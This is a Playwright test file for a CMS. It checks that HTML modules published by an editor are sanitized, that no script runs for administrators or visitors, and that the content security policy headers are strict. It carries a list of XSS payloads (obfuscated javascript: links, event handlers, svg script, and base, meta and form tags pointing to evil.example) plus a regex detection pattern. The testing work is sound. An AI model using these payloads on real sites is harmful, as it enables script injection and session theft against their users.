import { createHash } from 'node:crypto'
import type { APIRequestContext, Page } from '@playwright/test'
import { DEMO_SECOND_EDITOR_EMAIL, DEMO_SECOND_EDITOR_PASSWORD, csrfToken, expect, expectHydrated, expectRegenerated, loginAsEditor, signInToHub, test, withConsent } from './fixtures'

// Issue 35, items 1 and 2: an editor's HTML module runs nothing in an administrator's browser, and the policy of a
// generated page carries no secret shared by every visitor.

const PAGE = '/de/besuch'
const unique = Date.now().toString(36)
const MODULE_ID = `xss-${unique}`

/** Every payload reports to `/__xss/<name>` or sets `window.__pwned` if it runs; the test watches both. */
const PAYLOADS = [
  `<p class="marker-${unique}">Anfahrt</p>`,
  `<iframe hidden srcdoc="&lt;script src=https://www.googletagmanager.com/gtm.js?id=GTM-XSS&gt;&lt;/script&gt;&lt;script&gt;parent.fetch('/__xss/srcdoc')&lt;/script&gt;"></iframe>`,
  `<a id="entity" href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;fetch('/__xss/entity')">a</a>`,
  `<a id="mixed" href="JaVaScRiPt:fetch('/__xss/mixed')">b</a>`,
  `<a id="tab" href="java&#x09;script:fetch('/__xss/tab')">c</a>`,
  `<img/src=x/onerror=window.__pwned=1>`,
  `<img src=x onerror="fetch('/__xss/onerror')">`,
  `<object data="javascript:fetch('/__xss/object')"></object>`,
  `<embed src="https://evil.example/embed.js">`,
  `<svg><script>fetch('/__xss/svg-script')</script></svg>`,
  `<svg/onload=fetch('/__xss/svg-onload')>`,
  `<details open ontoggle="fetch('/__xss/ontoggle')"><summary>s</summary></details>`,
  `<meta http-equiv="refresh" content="1;url=https://evil.example/refresh">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/collect"><input name="q"><button formaction="javascript:fetch('/__xss/formaction')">go</button></form>`,
  `<style>body{background:url(https://evil.example/leak)}</style>`,
  `<iframe src="https://evil.example/frame"></iframe>`,
  `<script src="https://www.googletagmanager.com/gtm.js?id=GTM-XSS"></script><script>window.__pwned = 'script'</script>`,
].join('\n')

/** What a tag manager container or an attacker's host would send: a script that tells the test it ran. */
const REPORTING_SCRIPT = "window.__pwned = 'third-party'; fetch('/__xss/third-party')"

async function signIn(page: Page, email: string, password: string): Promise<void> {
  await page.goto('/cms-hub')
  await signInToHub(page, email, password)
}

async function sectionOf(request: APIRequestContext, pageId: number): Promise<{ revision: number; modules: { id: string; data: Record<string, unknown> }[] }> {
  const answer = await request.get(`/de/pageeditor-api/section/page/${pageId}`)
  expect(answer.status()).toBe(200)
  return answer.json()
}

async function publish(page: Page, pageId: number, revision: number, token: string): Promise<void> {
  const published = await page.request.post('/de/pageeditor-api/publish/', { headers: { 'X-CSRFToken': token }, data: { page: pageId, revision, note: `issue 35 ${unique}` } })
  expect(published.status()).toBe(200)
}

/** The other sites answered by the test itself, and every request to them and to `/__xss/` counted. */
async function watch(page: Page): Promise<string[]> {
  const hits: string[] = []
  await page.context().route(/^https:\/\/(www\.googletagmanager\.com|www\.google-analytics\.com|evil\.example)\//, (route) => {
    hits.push(route.request().url())
    return route.fulfill({ status: 200, contentType: 'text/javascript', body: REPORTING_SCRIPT })
  })
  await page.context().route(/\/__xss\//, (route) => {
    hits.push(route.request().url())
    return route.fulfill({ status: 204 })
  })
  return hits
}

function scriptSrc(policy: string | undefined): string {
  return (policy ?? '').split('; ').find((part) => part.startsWith('script-src ')) ?? ''
}

test.describe('content cannot run script (issue 35)', () => {
  // the image payload's relative address is missing on the site; a blocked load may be reported
  test.use({ allowConsoleErrors: [/Failed to load resource/, /Content Security Policy/] })

  test('a plain editor publishes every payload of the cheat sheet; the administrator views the page and nothing runs, the account is unchanged', async ({ page, browser, baseURL }) => {
    // two sessions, a publication, a regeneration and the removal: on a busy 2-core machine with the other leg beside it
    test.setTimeout(300_000)
    // the plain editor saves and publishes the module through the editor's API
    await signIn(page, DEMO_SECOND_EDITOR_EMAIL, DEMO_SECOND_EDITOR_PASSWORD)
    await page.goto(PAGE)
    const pageId = Number(await page.locator('article[data-page-id]').getAttribute('data-page-id'))
    expect(pageId).toBeGreaterThan(0)
    const token = await csrfToken(page)
    const before = await sectionOf(page.request, pageId)
    const saved = await page.request.post(`/de/pageeditor-api/module/${MODULE_ID}/`, {
      headers: { 'X-CSRFToken': token },
      data: { section: { kind: 'page', id: pageId }, revision: before.revision, module: { id: MODULE_ID, model: 'HtmlModule', order: 0, data: { html_code: PAYLOADS } }, placement: { parent: null, index: 0 } },
    })
    expect(saved.status()).toBe(200)
    const stored = (await saved.json()).modules.find((module: { id: string }) => module.id === MODULE_ID)?.data.html_code
    expect(stored).toContain(`class="marker-${unique}"`)
    expect(stored).not.toMatch(/srcdoc|\son\w+=|javascript:|<script|<object|<embed|<svg|<meta|<base|<form|<style|evil\.example/i)
    await publish(page, pageId, (await saved.json()).revision, token)
    await expectRegenerated(page)

    // the administrator, in a browser of their own, looks at the page
    // (the cookie dialog answered, so that it covers none of the links)
    const admin = await (await withConsent(await browser.newContext(), baseURL)).newPage()
    try {
      const hits = await watch(admin)
      await loginAsEditor(admin)
      const account = async () => {
        const answer = await admin.request.get(`/de/api/backoffice/users/?q=${encodeURIComponent(DEMO_SECOND_EDITOR_EMAIL)}`)
        expect(answer.status()).toBe(200)
        const found = (await answer.json()).results.find((user: { email: string }) => user.email === DEMO_SECOND_EDITOR_EMAIL)
        return { kind: found?.kind, updated: found?.updated_at }
      }
      const accountBefore = await account()
      expect(accountBefore.kind).toBeDefined()
      await admin.goto(PAGE)
      await expectHydrated(admin)
      const module = admin.locator(`[data-module-id="${MODULE_ID}"]`)
      await expect(module.locator(`.marker-${unique}`)).toHaveText('Anfahrt')
      // the links lost their script addresses; clicking them does nothing
      for (const id of ['entity', 'mixed', 'tab']) {
        await expect(module.locator(`#${id}`)).not.toHaveAttribute('href', /.+/)
        await module.locator(`#${id}`).click({ timeout: 10_000 })
      }
      await expect(module.locator('iframe, object, embed, svg, form, style, meta, base, script')).toHaveCount(0)
      // the refresh payload would have left after one second
      await admin.waitForTimeout(2_500)
      expect(new URL(admin.url()).pathname).toBe(PAGE)
      expect(await admin.evaluate(() => document.baseURI)).toContain(new URL(baseURL ?? 'http://127.0.0.1').host)
      expect(await admin.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined()
      expect(hits).toEqual([])
      // the staff page's policy names no third-party script origin
      const policy = (await admin.request.get(PAGE)).headers()['content-security-policy']
      expect(scriptSrc(policy)).not.toMatch(/https?:/)
      expect(await account()).toEqual(accountBefore)

      // an anonymous visitor gets the generated page: nothing runs there either
      const visitor = await (await withConsent(await browser.newContext(), baseURL)).newPage()
      const visitorHits = await watch(visitor)
      await visitor.goto(PAGE)
      await expectHydrated(visitor)
      await expect(visitor.locator(`.marker-${unique}`)).toBeVisible()
      await visitor.waitForTimeout(1_500)
      expect(await visitor.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined()
      expect(visitorHits).toEqual([])
      await visitor.context().close()
    } finally {
      await admin.context().close()
      // the module leaves the page again
      const current = await sectionOf(page.request, pageId)
      const removed = await page.request.delete(`/de/pageeditor-api/module/${MODULE_ID}/`, { headers: { 'X-CSRFToken': token }, data: { section: { kind: 'page', id: pageId }, revision: current.revision } })
      expect(removed.status()).toBe(200)
      await publish(page, pageId, (await removed.json()).revision, token)
      await expectRegenerated(page)
    }
  })
})

test.describe('a policy an injection cannot pass (issue 35)', () => {
  test('two anonymous answers of a generated page carry no nonce, only the hashes of the page\u2019s own scripts', async ({ playwright, baseURL }) => {
    const anonymous = await playwright.request.newContext({ baseURL })
    const first = await anonymous.get('/de')
    const second = await anonymous.get('/de')
    expect(first.headers()['x-foyer-cache']).toBe('STATIC')
    for (const answer of [first, second]) {
      const policy = answer.headers()['content-security-policy'] ?? ''
      expect(policy).not.toContain("'nonce-")
      expect(policy).toContain("object-src 'none'")
      expect(policy).toContain("base-uri 'none'")
      expect(policy).toContain("form-action 'self'")
      expect(policy).toContain('report-uri /api/csp-report/')
      expect(scriptSrc(policy)).not.toMatch(/googletagmanager|https?:/)
      const html = await answer.text()
      expect(html).not.toMatch(/\snonce=|csp-nonce/)
      // every inline script of the page is named by its hash: the page works without a nonce (a JSON data block —
      // structured data, a site fragment's data — is not run and needs none)
      const hashes = [...html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)]
        .filter((match) => !/\ssrc=|type="application\/(?:ld\+)?json"/.test(match[0]) && (match[1] ?? '') !== '')
        .map((match) => `'sha256-${createHash('sha256').update(match[1] ?? '').digest('base64')}'`)
      expect(hashes.length).toBeGreaterThan(0)
      for (const hash of hashes) expect(scriptSrc(policy)).toContain(hash)
    }
    expect(first.headers()['content-security-policy']).toBe(second.headers()['content-security-policy'])
    await anonymous.dispose()
  })

  test('no staff page allows a third-party script; violations reported by browsers are counted in the hub', async ({ page, playwright, baseURL }) => {
    await loginAsEditor(page)
    for (const path of ['/cms-hub', '/cms-hub/html-blocks', '/cms-hub/error-log', '/admin/event-picker', '/de', `${PAGE}?edit`, '/de/programm']) {
      const answer = await page.request.get(path)
      const policy = answer.headers()['content-security-policy'] ?? ''
      expect(policy, path).toContain('script-src')
      expect(scriptSrc(policy), path).not.toMatch(/https?:|\*|'unsafe-inline'|'nonce-/)
      expect(policy, path).toContain("frame-src https://www.youtube-nocookie.com")
    }
    // a report as a browser sends it: no cookie, no CSRF token
    const reporter = await playwright.request.newContext({ baseURL })
    const report = { 'csp-report': { 'document-uri': `${baseURL}/de`, 'effective-directive': 'script-src-elem', 'blocked-uri': `https://report-${unique}.example/x.js` } }
    const answer = await reporter.post('/api/csp-report/', { headers: { 'content-type': 'application/csp-report' }, data: JSON.stringify(report) })
    expect(answer.status()).toBe(204)
    await reporter.dispose()
    await page.goto('/cms-hub/error-log')
    const section = page.getByTestId('csp-violations')
    await expect(section.getByRole('row').filter({ hasText: `https://report-${unique}.example` })).toContainText('script-src-elem')
    // the HTML blocks page says what the administrators' blocks load
    await page.goto('/cms-hub/html-blocks')
    await expect(page.getByTestId('html-block-origins')).toBeVisible()
  })
})
